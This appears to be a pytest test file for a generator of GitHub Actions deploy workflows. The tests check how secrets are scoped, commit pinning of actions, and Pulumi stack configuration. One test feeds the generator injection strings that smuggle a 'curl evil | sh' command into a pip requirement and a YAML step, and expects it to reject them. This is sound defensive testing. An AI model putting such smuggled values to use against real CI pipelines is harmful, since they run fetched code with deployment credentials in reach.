"""The CI workflow: secrets scoped to each job's environment, actions pinned by commit, the
preview creating the stack it previews, and the gpuplan the user runs installed."""

from __future__ import annotations

import json
import re

import pytest
import yaml

from infra.workflow import installed_spec, render_workflow
from planner.errors import UsageError

DEPLOY_ONLY = {"RUNPOD_API_KEY", "VAST_API_KEY", "HETZNER_ROBOT_PASSWORD"}
BACKEND = {
    "PULUMI_ACCESS_TOKEN": "${{ secrets.PULUMI_ACCESS_TOKEN }}",
    "PULUMI_BACKEND_URL": "${{ secrets.PULUMI_BACKEND_URL }}",
    "PULUMI_CONFIG_PASSPHRASE": "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}",
}


def flow(install: str = "gpuplan==0.2.0") -> dict:
    return yaml.safe_load(render_workflow("infra/llm", "prod", install))


def _secret_keys(step_or_job: dict) -> set[str]:
    return {k for k, v in (step_or_job.get("env") or {}).items() if "secrets." in str(v)}


def test_secrets_live_in_the_jobs_environments_not_the_workflow():
    f = flow()
    assert not any("secrets." in str(v) for v in f["env"].values())
    check, deploy = f["jobs"]["check"], f["jobs"]["deploy"]
    assert (check["environment"], deploy["environment"]) == ("preview", "production")
    deploying = next(s for s in deploy["steps"] if s.get("name") == "gpuplan deploy")
    assert _secret_keys(deploying) >= DEPLOY_ONLY | {"AWS_SECRET_ACCESS_KEY", *BACKEND}
    # pull requests never see deploy-only keys
    assert not DEPLOY_ONLY & set().union(*(_secret_keys(s) for s in check["steps"]))
    assert f["permissions"] == {"contents": "read"}


def test_secrets_reach_only_the_steps_that_use_them():
    """Review: the secrets were the jobs' environment, so every step saw the cloud and Pulumi
    credentials, the package installs too (build scripts of third-party packages run there).
    They are now each step's own, and the checkout keeps no GitHub token in .git/config."""
    for name, job in flow()["jobs"].items():
        assert not _secret_keys(job), name
        users = {s.get("name") for s in job["steps"] if _secret_keys(s)}
        runs = "pulumi preview" if name == "check" else "gpuplan deploy"
        assert users == {"Stack config from secrets and variables", runs}, name
        [checkout] = [s for s in job["steps"] if "actions/checkout@" in s.get("uses", "")]
        assert checkout["with"]["persist-credentials"] is False


def test_actions_are_pinned_by_commit():
    f = flow()
    uses = [s["uses"] for job in f["jobs"].values() for s in job["steps"] if "uses" in s]
    assert uses and all(re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", u) for u in uses)


def test_preview_creates_the_stack_before_the_first_deploy():
    steps = flow()["jobs"]["check"]["steps"]
    [preview] = [s for s in steps if s.get("with", {}).get("command") == "preview"]
    assert preview["with"]["upsert"] is True


def test_ci_installs_what_is_given_quoted():
    f = flow("gpuplan @ git+https://github.com/example/gpuplan@0123456789abcdef")
    runs = [s.get("run", "") for s in f["jobs"]["deploy"]["steps"]]
    assert "pip install 'gpuplan @ git+https://github.com/example/gpuplan@0123456789abcdef'" in runs
    with pytest.raises(UsageError, match="pip requirement"):
        render_workflow("infra/llm", "prod", "gpuplan; curl evil | sh")
    # one line: a newline in the value (a YAML step smuggled in) is shown escaped
    with pytest.raises(UsageError) as refused:
        render_workflow("infra/llm", "prod", "gpuplan==1\n      run: curl evil | sh")
    assert "\n" not in refused.value.message and "\\n" in refused.value.message


class FakeDist:
    def __init__(self, direct_url: dict | None) -> None:
        self.version = "0.1.0"
        self.direct_url = direct_url

    def read_text(self, name: str) -> str | None:
        return json.dumps(self.direct_url) if self.direct_url is not None else None


@pytest.mark.parametrize(
    ("direct_url", "expected"),
    [
        (None, "gpuplan==0.1.0"),  # from an index: that release
        (
            {"url": "https://github.com/o/gpuplan", "vcs_info": {"vcs": "git", "commit_id": "abc"}},
            "gpuplan @ git+https://github.com/o/gpuplan@abc",
        ),
    ],
)
def test_installed_spec_names_what_the_user_runs(monkeypatch, direct_url, expected):
    from importlib import metadata

    monkeypatch.setattr(metadata, "distribution", lambda name: FakeDist(direct_url))
    assert installed_spec() == expected


def test_a_local_folder_install_needs_an_explicit_ci_install(monkeypatch):
    from importlib import metadata

    local = {"url": "file:///home/me/gpuplan", "dir_info": {"editable": True}}
    monkeypatch.setattr(metadata, "distribution", lambda name: FakeDist(local))
    with pytest.raises(UsageError, match="local folder") as err:
        installed_spec()
    assert "--ci-install" in (err.value.hint or "")


def _config_step(job: dict) -> tuple[int, dict]:
    [(i, step)] = [
        (i, s) for i, s in enumerate(job["steps"]) if "pulumi config set" in s.get("run", "")
    ]
    return i, step


def test_stack_config_is_set_from_secrets_before_preview_and_deploy():
    """A fresh repository has no Pulumi.<stack>.yaml: the program's gpuplan:hfToken (gated
    models) and gcp:project come from the environment's secret and a repository variable,
    set only when given, before the preview and before the deploy."""
    f = flow()
    for name, marker in (("check", "preview"), ("deploy", "gpuplan deploy")):
        job = f["jobs"][name]
        i, step = _config_step(job)
        later = [s.get("with", {}).get("command", "") + s.get("run", "") for s in job["steps"][i:]]
        assert any(marker in s for s in later), name
        assert step["working-directory"] == "infra/llm"
        assert step["env"] == {
            **BACKEND,
            "HF_TOKEN": "${{ secrets.HF_TOKEN }}",
            "GCP_PROJECT": "${{ vars.GCP_PROJECT }}",
            "HETZNER_SSH_PRIVATE_KEY": "${{ secrets.HETZNER_SSH_PRIVATE_KEY }}",
            "HETZNER_KEY_FINGERPRINTS": "${{ vars.HETZNER_KEY_FINGERPRINTS }}",
            "HETZNER_ROBOT_TEST_MODE": "${{ vars.HETZNER_ROBOT_TEST_MODE }}",
        }
        run = step["run"]
        assert 'pulumi stack select --create "$GPUPLAN_STACK"' in run
        assert 'if [ -n "$HF_TOKEN" ]; then\n  printf \'%s\' "$HF_TOKEN" | pulumi config set' in run
        assert 'pulumi config set gcp:project "$GCP_PROJECT"' in run
        assert run.index("stack select") < run.index("config set")


def test_previews_never_cancel_a_pending_deploy():
    f = flow()
    assert "concurrency" not in f  # one shared group would let a preview replace a deploy
    check, deploy = f["jobs"]["check"]["concurrency"], f["jobs"]["deploy"]["concurrency"]
    assert check["group"] != deploy["group"] and "github.ref" in check["group"]
    assert deploy == {"group": "gpuplan-deploy", "cancel-in-progress": False}


@pytest.mark.parametrize("job", ["check", "deploy"])
def test_the_config_step_sets_what_is_given_and_nothing_else(tmp_path, job):
    """Run the step's script with a stand-in `pulumi` that logs its arguments and standard
    input: Hetzner's key fingerprints become a list, the SSH key a secret read from standard
    input (never on a command line), the HF token too, and unset values set nothing."""
    import subprocess

    _, step = _config_step(flow()["jobs"][job])
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    log = tmp_path / "log"
    (bin_dir / "pulumi").write_text(
        '#!/bin/sh\necho "ARGS $*" >> "$LOG"\n'
        'case "$*" in *--secret*) echo "STDIN $(cat)" >> "$LOG";; esac\n'
    )
    (bin_dir / "pulumi").chmod(0o755)
    key = "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----"
    env = {
        "PATH": f"{bin_dir}:/usr/bin:/bin", "LOG": str(log), "GPUPLAN_STACK": "prod",
        "HF_TOKEN": "hf_0123456789abcdef", "GCP_PROJECT": "", "HETZNER_SSH_PRIVATE_KEY": key,
        "HETZNER_KEY_FINGERPRINTS": "aa:bb, cc:dd", "HETZNER_ROBOT_TEST_MODE": "false",
    }  # fmt: skip
    subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], env=env, check=True, timeout=30)
    lines = log.read_text().splitlines()
    args = [line for line in lines if line.startswith("ARGS ")]
    assert args == [
        "ARGS stack select --create prod",
        "ARGS config set --secret gpuplan:hfToken --stack prod",
        "ARGS config set --path gpuplan:robotKeyFingerprints[0] aa:bb --stack prod",
        "ARGS config set --path gpuplan:robotKeyFingerprints[1] cc:dd --stack prod",
        "ARGS config set --secret gpuplan:sshPrivateKey --stack prod",
        "ARGS config set gpuplan:robotTestMode false --stack prod",
    ]
    assert "abc" not in " ".join(args)  # the key went through standard input only
    assert "hf_0123456789abcdef" not in " ".join(args)  # the token too
    assert "STDIN hf_0123456789abcdef" in lines
    assert "STDIN " + key.splitlines()[0] in lines


@pytest.mark.parametrize(("variable", "waited"), [("", "0"), ("900", "900")])
def test_deploy_polls_the_model_only_when_the_runner_may_reach_it(tmp_path, variable, waited):
    """GitHub-hosted runners are outside allow_cidrs: the deploy step waits for the model only
    when the repository variable GPUPLAN_WAIT_HEALTHY says how long (a self-hosted runner)."""
    import subprocess

    [step] = [s for s in flow()["jobs"]["deploy"]["steps"] if s.get("name") == "gpuplan deploy"]
    assert step["env"]["GPUPLAN_WAIT_HEALTHY"] == "${{ vars.GPUPLAN_WAIT_HEALTHY }}"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "gpuplan").write_text('#!/bin/sh\necho "$*" > "$LOG"\n')
    (bin_dir / "gpuplan").chmod(0o755)
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "LOG": str(tmp_path / "log"),
           "GPUPLAN_WAIT_HEALTHY": variable}  # fmt: skip
    subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], env=env, check=True, timeout=30)
    assert (tmp_path / "log").read_text().split() == [
        "deploy", "--yes", "--format", "json", "--wait-healthy", waited
    ]  # fmt: skip


def test_requirements_go_into_the_virtualenv_the_program_runs_in():
    """Review: the requirements went into the runner's own Python, while Pulumi runs the
    program in the project's virtualenv (Pulumi.yaml), which it then created and filled inside
    the preview and deploy steps, with the credentials in their environment."""
    import shlex

    from infra.emit import ProjectOptions, render_project
    from tests.test_generate import CIDR, make_plan

    files = render_project(make_plan("aws"), ProjectOptions(allowed_cidrs=(CIDR,)))
    venv = "infra/llm/" + yaml.safe_load(files["Pulumi.yaml"])["runtime"]["options"]["virtualenv"]
    for name, job in flow()["jobs"].items():
        [step] = [s for s in job["steps"] if "requirements.txt" in s.get("run", "")]
        words = shlex.split(step["run"])
        assert words[:4] == ["python", "-m", "venv", venv], name
        assert words[5:] == [f"{venv}/bin/python", "-m", "pip", "install", "-r",
                             "infra/llm/requirements.txt"], name  # fmt: skip
        assert not _secret_keys(step), name
        order = [s.get("name") for s in job["steps"]]
        assert order.index(step["name"]) < order.index("Stack config from secrets and variables")


def test_the_deploy_job_installs_the_automation_api_gpuplan_deploy_drives():
    """Review: with the project's requirements in its own venv, nothing put the pulumi package
    in the runner's Python, where `gpuplan deploy` imports the Automation API: every CI deploy
    stopped at exit 5. The runner's Python gets the version the project pins (and the
    `deploy` extra names), in a step without secrets, before the deploy."""
    import shlex
    import tomllib
    from pathlib import Path

    from infra.versions import BASE_REQUIREMENTS

    pin = "pulumi==" + BASE_REQUIREMENTS["pulumi"]
    pyproject = tomllib.loads((Path(__file__).parents[1] / "pyproject.toml").read_text())
    assert pyproject["project"]["optional-dependencies"]["deploy"] == [pin]
    steps = flow()["jobs"]["deploy"]["steps"]
    names = [s.get("name") for s in steps]
    runner = []  # what plain `pip install` puts in the runner's Python, step by step
    for step in steps[: names.index("gpuplan deploy")]:
        words = shlex.split(step.get("run", ""))
        if words[:2] == ["pip", "install"]:
            runner += words[2:]
            assert not _secret_keys(step)
    assert pin in runner and "gpuplan==0.2.0" in runner


@pytest.mark.parametrize("job", ["check", "deploy"])
def test_a_self_managed_backend_without_a_passphrase_stops_the_config_step(tmp_path, job):
    """Review: GitHub gives an undefined secret as "", and Pulumi takes a set but empty
    PULUMI_CONFIG_PASSPHRASE as the passphrase: the stack's secrets (API key, HF token, SSH
    key) were encrypted with "" in the bucket. The step stops first, before any pulumi call."""
    import subprocess

    _, step = _config_step(flow()["jobs"][job])
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "pulumi").write_text('#!/bin/sh\necho "$*" >> "$LOG"\n')
    (bin_dir / "pulumi").chmod(0o755)
    log = tmp_path / "log"
    base = {"PATH": f"{bin_dir}:/usr/bin:/bin", "LOG": str(log), "GPUPLAN_STACK": "prod"}
    bucket = {"PULUMI_BACKEND_URL": "s3://state", "PULUMI_CONFIG_PASSPHRASE": ""}
    run = subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], env={**base, **bucket},
                         capture_output=True, text=True, timeout=30)  # fmt: skip
    assert run.returncode == 1 and "empty passphrase" in run.stderr and not log.exists()
    for fine in ({**bucket, "PULUMI_CONFIG_PASSPHRASE": "s3cret"}, {"PULUMI_BACKEND_URL": ""}):
        subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], env={**base, **fine},
                       check=True, timeout=30)  # fmt: skip
    assert log.read_text().splitlines() == ["stack select --create prod"] * 2
